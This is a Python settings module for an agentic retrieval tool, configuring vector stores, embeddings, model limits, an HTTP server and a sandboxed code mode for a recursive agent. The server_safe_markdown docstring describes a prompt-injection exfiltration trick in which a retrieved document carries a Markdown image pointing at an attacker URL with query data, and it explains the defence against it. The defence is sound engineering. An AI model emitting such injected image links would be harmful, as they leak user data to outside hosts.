"""Settings: one pydantic-settings class, read from ``ARAG_*`` environment variables and ``.env``.

Only ``agents`` reads settings; everything below receives plain arguments.
"""

from __future__ import annotations

from pathlib import Path
from typing import Literal

from pydantic import Field, SecretStr, field_validator, model_validator
from pydantic_settings import BaseSettings, SettingsConfigDict

__all__ = ["Settings"]


class Settings(BaseSettings):
    """Configuration of stores, models and limits.

    Every field can be set as an environment variable with the ``ARAG_`` prefix
    (``ARAG_QDRANT_URL=http://localhost:6333``) or in a ``.env`` file in the working directory.
    """

    model_config = SettingsConfigDict(env_prefix="ARAG_", env_file=".env", env_file_encoding="utf-8", extra="ignore")

    # -- where data lives ----------------------------------------------------------------
    data_dir: Path = Path(".arag")
    """Folder for the embedded store and the embedding cache."""
    qdrant_path: Path | None = None
    """Local-mode (qdrant-client) store folder; defaults to ``<data_dir>/qdrant``."""
    qdrant_url: str | None = None
    """Qdrant server URL (``http://host:6333``); use it for concurrent access or large corpora."""
    qdrant_api_key: SecretStr | None = None
    """API key of the Qdrant server."""
    store_backend: Literal["embedded", "local", "server"] | None = None
    """``embedded``: Qdrant Edge in-process (``<data_dir>/edge``); ``local``: qdrant-client's
    pure-Python local mode (``<data_dir>/qdrant``); ``server``: the Qdrant at ``ARAG_QDRANT_URL``.
    Default: ``server`` when a URL is set, else ``embedded``."""
    edge_path: Path | None = None
    """Embedded (Edge) store folder; defaults to ``<data_dir>/edge``."""
    hnsw_ef: int = Field(default=128, ge=1)
    """Embedded store: candidates HNSW explores per query (higher: more exact, slower)."""
    index_threshold: int = Field(default=20_000, ge=0)
    """Embedded store: build the HNSW index after an ingest once this many vectors await it."""

    # -- embeddings ----------------------------------------------------------------------
    embedding_provider: Literal["local", "openai"] = "local"
    """``local``: bundled all-MiniLM-L6-v2 on the CPU; ``openai``: an OpenAI-compatible endpoint."""
    embedding_model: str = "all-MiniLM-L6-v2"
    """Model name; for ``openai`` e.g. ``text-embedding-3-small`` or the name your server serves."""
    embedding_batch_size: int = Field(default=32, ge=1)
    """Texts per forward pass (local) or request (openai)."""
    embedding_cache: bool = True
    """Cache embeddings on disk by content hash (``<data_dir>/cache/embeddings.sqlite``)."""
    torch_threads: int | None = Field(default=None, ge=1)
    """Torch threads for the local model; default: all cores."""

    # -- chat model ----------------------------------------------------------------------
    chat_model: str | None = None
    """Chat model name; unset means the heuristic (extractive) strategies, no model calls."""
    openai_base_url: str | None = None
    """Base URL of an OpenAI-compatible server (vLLM, Ollama, llama.cpp, LM Studio, ...)."""
    openai_api_key: SecretStr | None = None
    """API key for OpenAI or the compatible server."""
    request_timeout: float = Field(default=60.0, gt=0)
    """Seconds before a model or embeddings request times out."""
    model_max_attempts: int = Field(default=4, ge=1)
    """Attempts per model call on transient faults (429, 5xx, timeouts), the first included."""

    # -- agent runs ----------------------------------------------------------------------
    max_iterations: int = Field(default=3, ge=1)
    """Retrieval rounds per question (the first plus refinements)."""
    max_answer_attempts: int = Field(default=2, ge=1)
    """Drafts per question; a draft that fails validation is corrected while attempts remain."""
    max_model_calls: int | None = Field(default=30, ge=1)
    """Model calls per question."""
    max_tokens: int | None = Field(default=100_000, ge=1)
    """Prompt plus completion tokens per question."""
    run_deadline: float | None = Field(default=120.0, gt=0)
    """Seconds per question before the run ends with the best answer so far."""
    threads_path: Path | None = None
    """SQLite file of chat threads (the LangGraph checkpointer); defaults to ``<data_dir>/threads.sqlite``."""

    # -- the HTTP server (``arag serve``) ------------------------------------------------
    server_host: str = "127.0.0.1"
    """Address ``arag serve`` listens on (``0.0.0.0`` for every interface)."""
    server_port: int = Field(default=8000, ge=0, le=65535)
    """Port of ``arag serve`` (0 picks a free one)."""
    api_key: SecretStr | None = None
    """Bearer key that clients of ``arag serve`` must send. Unset: no authentication, which
    ``arag serve`` allows on a loopback address only (see :attr:`server_no_auth`). A blank
    value is an error, never "no authentication"."""
    server_no_auth: bool = False
    """Serve without a key on a non-loopback address (``arag serve --no-auth``); off, ``arag
    serve`` refuses to listen on another address without :attr:`api_key`."""
    server_max_runs: int = Field(default=4, ge=1)
    """Agent runs the server executes at once."""
    server_max_queue: int = Field(default=32, ge=0)
    """Requests that may wait for a run slot; past runs + queue, clients get 429 with Retry-After."""
    server_max_body: int = Field(default=1_000_000, ge=1_000)
    """Largest request body in bytes (413 past it)."""
    server_deadline: float = Field(default=180.0, gt=0)
    """Seconds per request, waiting included; past it the run is stopped and the client told (504)."""
    server_limit_concurrency: int = Field(default=1000, ge=1)
    """Connections the server holds at once (uvicorn's ``limit_concurrency``: requests past it get
    503); lowered to the process's open-files limit minus 64, so the server never runs out of
    files. A connection past it is answered 503 and closed at once."""
    server_keep_alive: int = Field(default=5, ge=1)
    """Seconds an idle keep-alive connection stays open between requests (uvicorn's
    ``timeout_keep_alive``)."""
    server_header_timeout: float = Field(default=10.0, gt=0)
    """Seconds a client has to send a request's headers, from connecting or from the end of the
    previous response; past it the server answers 408 and closes (slow or idle clients)."""
    server_body_timeout: float = Field(default=30.0, gt=0)
    """Seconds a client has to send a request body; past it the server answers 408 and closes."""
    server_safe_markdown: bool = True
    """Neutralise Markdown images and raw HTML in the answers the server sends, so a document
    carrying an injected ``![](https://attacker/?q=...)`` or ``<img>`` cannot make a Markdown
    front end fetch a URL (images are shown as their text, tags are escaped; ``[n]`` citations and other
    Markdown are kept)."""

    # -- long contexts (the recursive agent) ---------------------------------------------
    rlm_max_iterations: int = Field(default=12, ge=1)
    """Root-model turns per (sub-)run of the recursive agent."""
    rlm_max_depth: int = Field(default=2, ge=0)
    """Recursion levels below the root run."""
    rlm_max_sub_calls: int | None = Field(default=5_000, ge=1)
    """Sub-calls over a whole recursive run."""
    rlm_max_tokens: int | None = Field(default=2_000_000, ge=1)
    """Tokens over every model call of a recursive run."""
    rlm_deadline: float | None = Field(default=600.0, gt=0)
    """Seconds per recursive run."""
    rlm_max_concurrency: int = Field(default=16, ge=1)
    """Sub-calls running at once."""
    rlm_sub_context_chars: int = Field(default=40_000, ge=200)
    """Characters one sub-call reads; longer pieces recurse. Fit it to the sub-model's context."""
    rlm_code_mode: bool = False
    """Let the root model run Python in a sandboxed process (the ``run_python`` tool). Needs the OS
    boundary (bubblewrap, user namespaces, libseccomp): without it code mode refuses to start."""
    rlm_code_mode_unsafe: bool = False
    """Run code mode WITHOUT the OS boundary where it cannot be set up (loud warning; the code then
    runs as this user behind an in-process guard that it can switch off)."""
    sub_chat_model: str | None = None
    """Model for the recursive agent's sub-calls (e.g. a smaller one); default: ``chat_model``."""

    # -- ingestion and retrieval ---------------------------------------------------------
    chunk_size: int = Field(default=1000, ge=50)
    """Maximum characters per chunk."""
    chunk_overlap: int = Field(default=200, ge=0)
    """Characters shared by neighbouring chunks."""
    ingest_batch_size: int = Field(default=256, ge=1)
    """Chunks per embed-and-store step."""
    retrieval_mode: Literal["dense", "sparse", "hybrid"] = "hybrid"
    """Default search mode."""
    top_k: int = Field(default=10, ge=1)
    """Chunks returned by a search."""
    prefetch_limit: int = Field(default=100, ge=1)
    """Candidates each of dense and sparse ranks before hybrid fusion."""
    rrf_k: int = Field(default=10, ge=1)
    """Reciprocal rank fusion constant (chosen on the SciFact train queries; see evals/README.md)."""

    @field_validator("qdrant_url", "chat_model", "openai_base_url", mode="before")
    @classmethod
    def _blank_is_unset(cls, value: object) -> object:
        return None if isinstance(value, str) and not value.strip() else value

    @field_validator("api_key", mode="before")
    @classmethod
    def _blank_key_is_an_error(cls, value: object) -> object:
        # A key set to nothing (ARAG_API_KEY= in a .env) must not silently mean "no authentication".
        text = value.get_secret_value() if isinstance(value, SecretStr) else value
        if isinstance(text, str) and not text.strip():
            msg = "ARAG_API_KEY is set but blank: set a key, or unset it to serve without one (loopback only)"
            raise ValueError(msg)
        if isinstance(text, str) and text != text.strip():
            msg = "ARAG_API_KEY has leading or trailing whitespace; clients cannot send it in a header"
            raise ValueError(msg)
        return value

    @model_validator(mode="after")
    def _check(self) -> Settings:
        if self.chunk_overlap >= self.chunk_size:
            msg = f"ARAG_CHUNK_OVERLAP ({self.chunk_overlap}) must be smaller than ARAG_CHUNK_SIZE ({self.chunk_size})"
            raise ValueError(msg)
        if self.store_backend == "server" and not self.qdrant_url:
            msg = "ARAG_STORE_BACKEND=server needs ARAG_QDRANT_URL (e.g. http://localhost:6333)"
            raise ValueError(msg)
        if self.qdrant_url and not self.qdrant_url.startswith(("http://", "https://")):
            msg = f"ARAG_QDRANT_URL must start with http:// or https://, got {self.qdrant_url!r}"
            raise ValueError(msg)
        return self

    @property
    def backend(self) -> Literal["embedded", "local", "server"]:
        """The store backend in effect (see :attr:`store_backend`)."""
        if self.store_backend is not None:
            return self.store_backend
        return "server" if self.qdrant_url else "embedded"

    @property
    def store_location(self) -> str:
        """The server URL, or the folder of the embedded or local store."""
        if self.backend == "server":
            assert self.qdrant_url is not None  # checked by the validator
            return self.qdrant_url
        if self.backend == "local":
            return str(self.qdrant_path or self.data_dir / "qdrant")
        return str(self.edge_path or self.data_dir / "edge")

    @property
    def threads_file(self) -> Path:
        """The SQLite file of chat threads."""
        return self.threads_path or self.data_dir / "threads.sqlite"

    @property
    def cache_path(self) -> Path:
        """The embedding cache file."""
        return self.data_dir / "cache" / "embeddings.sqlite"
